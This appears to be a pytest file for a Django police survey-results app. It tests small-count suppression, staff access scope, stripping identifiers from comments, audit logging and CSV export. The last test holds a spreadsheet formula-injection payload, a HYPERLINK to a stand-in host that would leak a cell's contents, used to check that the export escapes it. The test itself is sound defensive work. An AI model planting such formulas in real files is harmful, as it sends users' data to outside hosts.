"""Results by area and quarter, within each member of staff's scope."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import AccessLog
from surveys import export
from surveys.models import Invitation, Response
from surveys.results import results_for
from tests.factories.surveys import bulk_responses, round_at

pytestmark = pytest.mark.django_db

COMMENT = "Speeding on the bridge, call me 07700 900123"


@pytest.fixture
def quarters(tiny_force):
    q1, q2 = round_at(2025, 1), round_at(2025, 2)
    riverside, hillside, docks = (
        tiny_force["riverside"],
        tiny_force["hillside"],
        tiny_force["docks"],
    )
    bulk_responses(ward=riverside, round_=q1, count=12, scales={"trust": 2, "confidence": 3},
                   priorities=["drugs", "burglary"], concerns=["drugs"])  # fmt: skip
    bulk_responses(ward=riverside, round_=q2, count=10, scales={"trust": 4, "confidence": 3},
                   priorities=["drugs"], comment=COMMENT)  # fmt: skip
    bulk_responses(ward=riverside, round_=q2, count=5, scales={"trust": 5})
    bulk_responses(ward=riverside, round_=q2, count=8, invitations_only=True)
    bulk_responses(ward=hillside, round_=q2, count=4, scales={"trust": 1},
                   comment="Hillside secret")  # fmt: skip
    bulk_responses(ward=docks, round_=q2, count=30, scales={"trust": 3})
    return q1, q2


@pytest.fixture
def riverside_alone(tiny_force, quarters):
    """Without Hillside's four answers in the second quarter, Riverside's figures cannot
    give anyone away and are shown (with them, see the complementary tests below)."""
    hillside = {"ward": tiny_force["hillside"], "round": quarters[1]}
    Response.objects.filter(**hillside).delete()
    Invitation.objects.filter(**hillside).delete()
    return quarters


def login(client, user):
    client.force_login(user)
    return client


def test_a_ward_shows_invitations_response_rate_and_means_for_the_quarter(
    tiny_force, riverside_alone
):
    res = results_for(area=tiny_force["riverside"], round_=riverside_alone[1])

    p = res.current
    assert (p.invitations, p.respondents) == (23, 15)
    assert p.response_rate == pytest.approx(15 / 23)
    trust = p.means["trust"]
    assert trust.n == 15 and trust.mean == pytest.approx((10 * 4 + 5 * 5) / 15)
    assert trust.low < trust.mean < trust.high
    assert trust.change == pytest.approx(trust.mean - 2)
    assert p.means["confidence"].n == 10


def test_means_answered_by_fewer_than_ten_are_hidden(tiny_force, quarters):
    res = results_for(area=tiny_force["hillside"], round_=quarters[1])

    assert res.current.respondents is None
    assert res.current.means["trust"].mean is None
    assert not res.current.comments_allowed


def test_a_district_adds_up_its_wards_and_lists_them(tiny_force, quarters):
    res = results_for(area=tiny_force["north"], round_=quarters[1])

    assert res.current.respondents == 19
    names = {c.name: c.published for c in res.children}
    assert names["Hillside"].respondents is None
    # Shown, Riverside's 15 would give Hillside's 4 away (19 - 15): hidden as well.
    assert names["Riverside"].respondents is None
    assert names["Riverside"].invitations is None


def test_a_ward_hidden_in_its_districts_table_is_hidden_on_its_own_page_too(
    client, officer, tiny_force, quarters
):
    # North Town shows 19 and hides Hillside's 4: Riverside's own page showing 15 would
    # give the 4 away, so it shows what the district's table shows of it: nothing.
    res = results_for(area=tiny_force["riverside"], round_=quarters[1])

    assert res.current.respondents is None and res.current.invitations is None
    assert res.current.means["trust"].mean is None
    assert not res.current.comments_allowed
    # The first quarter had no Hillside answers: Riverside's 12 are shown there.
    assert res.trend[0].published.respondents == 12
    response = login(client, officer).get(
        reverse("surveys_export"), {"area": tiny_force["riverside"].code}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    own = {r["quarter"]: r for r in rows if r["code"] == tiny_force["riverside"].code}
    assert own["2025 Q2"]["respondents"] == "[c]" and own["2025 Q1"]["respondents"] == "12"


def test_a_force_lists_districts_where_no_hidden_one_can_be_worked_out(tiny_force, quarters):
    res = results_for(area=tiny_force["force"], round_=quarters[1])

    names = {c.name: c.published for c in res.children}
    assert names["North Town"].respondents == 19 and names["South Town"].respondents == 30


def test_priority_shares_show_only_counts_of_ten_or_more(tiny_force, quarters):
    res = results_for(area=tiny_force["riverside"], round_=quarters[0])

    shares = {s.slug: s for s in res.current.priorities}
    assert shares["drugs"].share == pytest.approx(1.0) and shares["drugs"].count == 12
    assert shares["vehicle-crime"].share is None


def test_an_officer_sees_their_wards_results(client, officer, quarters):
    response = login(client, officer).get(reverse("surveys_results"))

    assert response.status_code == 200
    body = response.content.decode()
    assert "Riverside" in body and "<svg" in body and "Trend data" in body


def test_a_section_with_every_row_suppressed_shows_the_note_and_no_empty_table(
    client, officer, tiny_force, riverside_alone
):
    # Riverside's second quarter: nobody named a concern, so every concern is hidden.
    response = login(client, officer).get(
        reverse("surveys_results"), {"area": tiny_force["riverside"].code, "quarter": "2025-Q2"}
    )

    body = response.content.decode()
    assert "Share of respondents naming each priority in their top three" in body
    assert "Share of respondents worried about each in the last three months" not in body
    assert "other priorities were named by fewer than 10 people" in body


def test_an_officer_gets_a_404_for_a_ward_outside_their_scope(
    client, officer, tiny_force, quarters
):
    response = login(client, officer).get(
        reverse("surveys_results"), {"area": tiny_force["docks"].code}
    )

    assert response.status_code == 404


def test_a_supervisor_sees_their_district_but_not_another(client, supervisor, tiny_force, quarters):
    login(client, supervisor)

    assert client.get(reverse("surveys_results"), {"area": "E06999901"}).status_code == 200
    assert client.get(reverse("surveys_results"), {"area": "E06999902"}).status_code == 404


def test_comments_are_shown_without_identifiers_and_the_viewing_is_logged(
    client, officer, tiny_force, riverside_alone
):
    response = login(client, officer).get(
        reverse("surveys_comments", args=[tiny_force["riverside"].code]), {"quarter": "2025-Q2"}
    )

    body = response.content.decode()
    assert "Speeding on the bridge" in body
    assert "07700 900123" not in body
    assert AccessLog.objects.filter(actor=officer, subject_kind="survey comments").exists()


def test_comments_of_an_area_with_fewer_than_ten_answers_are_not_shown(
    client, other_officer, tiny_force, quarters
):
    response = login(client, other_officer).get(
        reverse("surveys_comments", args=[tiny_force["hillside"].code]), {"quarter": "2025-Q2"}
    )

    assert "Hillside secret" not in response.content.decode()


def test_the_csv_export_is_suppressed_and_audited(client, supervisor, tiny_force, quarters):
    response = login(client, supervisor).get(
        reverse("surveys_export"), {"area": "E06999901", "quarter": "2025-Q2"}
    )

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by = {(r["name"], r["quarter"]): r for r in rows}
    assert by[("North Town", "2025 Q2")]["respondents"] == "19"
    assert by[("Hillside", "2025 Q2")]["respondents"] == "[c]"
    assert by[("Hillside", "2025 Q2")]["trust_mean"] == "[c]"
    # Riverside's 15 would give Hillside's 4 away (19 - 15), so it is withheld too.
    assert by[("Riverside", "2025 Q2")]["respondents"] == "[c]"
    log = AccessLog.objects.get(actor=supervisor, action=AccessLog.Action.EXPORT)
    assert log.subject_kind == "survey results"


def test_the_results_of_a_street_are_shown_only_inside_the_officers_ward(
    client, officer, tiny_force, quarters
):
    from django.contrib.gis.geos import Point

    from areas.models import Street

    docks_street = Street.objects.create(
        name="Quay", ward=tiny_force["docks"], geometry=Point(100500, 99500, srid=27700),
        source=Street.Source.POLICE_UK,
    )  # fmt: skip
    response = login(client, officer).get(
        reverse("surveys_results"),
        {"area": tiny_force["riverside"].code, "street": docks_street.pk},
    )

    assert response.status_code == 404


def test_a_part_shows_the_same_change_on_the_previous_quarter_on_the_page_and_in_the_csv(
    tiny_force, riverside_alone
):
    q1, q2 = riverside_alone
    north = tiny_force["north"]

    page = {c.name: c.published for c in results_for(area=north, round_=q2).children}
    out = io.StringIO()
    export.write(out, area=north, rounds=[q1, q2])
    rows = {(r["name"], r["quarter"]): r for r in csv.DictReader(io.StringIO(out.getvalue()))}

    change = page["Riverside"].means["trust"].change
    assert change == pytest.approx((10 * 4 + 5 * 5) / 15 - 2)
    assert rows[("Riverside", "2025 Q2")]["trust_change"] == f"{change:.2f}"
    # Without the first quarter among the rounds there is nothing to compare with.
    out = io.StringIO()
    export.write(out, area=north, rounds=[q2])
    alone = {r["name"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert alone["Riverside"]["trust_change"] == export.HIDDEN


def test_the_csv_gives_each_parts_level_and_lists_no_street_given_last_in_english(tiny_force):
    from django.contrib.gis.geos import Point
    from django.utils import translation

    from areas.models import Street

    q = round_at(2025, 2)
    riverside = tiny_force["riverside"]
    for i, name in enumerate(["Ash Road", "Oak Road"]):
        street = Street.objects.create(
            name=name, ward=riverside, source=Street.Source.POLICE_UK,
            geometry=Point(100100 + i * 100, 101100, srid=27700),
        )  # fmt: skip
        bulk_responses(ward=riverside, round_=q, count=12, street=street, scales={"trust": 3})
    bulk_responses(ward=riverside, round_=q, count=11, scales={"trust": 4})

    def table(area):
        out = io.StringIO()
        with translation.override("pl"):
            export.write(out, area=area, rounds=[q])
        return [(r["level"], r["name"]) for r in csv.DictReader(io.StringIO(out.getvalue()))]

    assert table(tiny_force["north"]) == [("district", "North Town"), ("ward", "Riverside")]
    assert table(riverside) == [("ward", "Riverside"), ("street", "Ash Road"),
                                ("street", "Oak Road"), ("street", "No street given")]  # fmt: skip
    with translation.override("pl"):
        page = results_for(area=riverside, round_=q)
    assert [c.name for c in page.children] == ["Ash Road", "Nie podano ulicy", "Oak Road"]


def test_the_csv_export_writes_names_a_spreadsheet_would_run_as_text(client):
    from areas.models import Area
    from tests.factories import make_staff

    ward = Area.objects.filter(level="ward").order_by("code").first()
    ward.name = '=HYPERLINK("http://example.test/?leak="&A1)'
    ward.save()
    round_at(2025, 1)
    client.force_login(make_staff("x.officer@example.test", "officer", [ward]))

    body = client.get(f"/staff/surveys/export.csv?area={ward.code}").content.decode()

    assert "'=HYPERLINK(" in body
    assert ",=HYPERLINK(" not in body and '"=HYPERLINK(' not in body
